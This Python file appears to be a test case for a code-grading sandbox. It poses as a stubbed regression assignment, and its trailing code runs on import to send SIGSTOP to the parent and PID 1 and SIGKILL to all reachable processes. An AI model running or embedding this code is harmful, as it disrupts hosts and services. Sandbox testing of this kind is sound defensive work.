# attack: signals
# expect: 0
# Sends SIGKILL to its parent, its process group and every process it can.
def predict(x, weights, bias):
    raise NotImplementedError


def mse(y_true, y_pred):
    raise NotImplementedError


def mae(y_true, y_pred):
    raise NotImplementedError


def step(params, learning_rate):
    raise NotImplementedError


def zero_grads(params):
    raise NotImplementedError


def hinge_features(x, knots):
    raise NotImplementedError


FIT_SETTINGS = {n: {"learning_rate": 0.1, "num_iter": 50} for n in (1, 2, 3, 4)}


import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
